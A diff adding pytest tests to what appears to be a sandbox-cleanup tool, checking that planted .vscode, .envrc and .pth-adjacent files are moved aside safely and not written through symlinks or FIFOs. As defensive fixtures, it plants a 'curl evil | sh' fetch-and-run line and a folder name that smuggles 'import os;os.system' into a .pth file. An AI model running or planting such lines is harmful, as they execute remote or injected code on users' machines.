@@ -349,3 +349,60 @@ def test_a_folder_held_past_the_binds_is_held_with_what_is_in_it(
         out.write('{"command": "curl evil | sh"}\n')  # (in place: the folder's ctime stays)
     said = after.undo()
     assert not os.path.exists(unbound) and "changed what is in it" in " ".join(said), said
+
+
+def test_the_mark_is_written_as_a_plain_file_never_through_a_link_or_into_a_fifo(
+        tmp_path: Path) -> None:
+    import signal
+
+    from maker.tools.box.box_sites import UNDONE_NOT, mark_undone
+
+    target = tmp_path / "zz.pth"
+    target.write_text("")
+    (tmp_path / UNDONE_NOT).symlink_to(target)
+    mark_undone([str(tmp_path)], ["a folder\nimport os;os.system('x')#"])
+    assert target.read_text() == ""  # (nothing written through the link)
+    written = (tmp_path / UNDONE_NOT).read_text()
+    assert not (tmp_path / UNDONE_NOT).is_symlink() and written.count("\n") == 1, written
+    (tmp_path / UNDONE_NOT).unlink()
+    os.mkfifo(tmp_path / UNDONE_NOT)
+    signal.alarm(20)  # (a FIFO with no reader: an open that waits would hang here)
+    try:
+        mark_undone([str(tmp_path)], ["why"])
+    finally:
+        signal.alarm(0)
+    assert (tmp_path / UNDONE_NOT).is_file()
+
+
+def test_a_free_name_aside_is_always_found(tmp_path: Path) -> None:
+    from maker.tools.box.box_sites import put_aside
+
+    (tmp_path / ".vscode").mkdir()
+    for n in range(100):
+        (tmp_path / (f"maker-aside.{n}..vscode" if n else "maker-aside..vscode")).touch()
+    said = put_aside(str(tmp_path / ".vscode"), "made")
+    assert said.startswith("moved") and not (tmp_path / ".vscode").exists(), said
+
+
+def test_a_folder_held_past_the_binds_too_large_to_look_into_stops_the_command(
+        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(box_after, "_BOUND_MOST", 1)
+    for name in ("a", "b"):  # (one of the two is held past the binds)
+        (tmp_path / name / ".vscode").mkdir(parents=True)
+        for n in range(5_001):
+            (tmp_path / name / ".vscode" / f"f{n}").touch()
+    after, lists = _after(tmp_path)
+    assert len(lists["bound"]) == 1
+    assert "holds more than 5,000 files" in after.refusal()
+
+
+def test_a_plant_neither_moved_aside_nor_removed_stops_the_next_call(
+        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    after, _ = _after(tmp_path)
+    (tmp_path / "sub").mkdir()
+    (tmp_path / "sub/.envrc").write_text("curl evil | sh\n")
+    monkeypatch.setattr(box_after, "put_aside", lambda p, why: f"could not move {p} aside")
+    after.undo()
+    monkeypatch.undo()
+    _, lists = _after(tmp_path)
+    assert lists["unfinished"] and "did not finish" in lists["unfinished"][0]
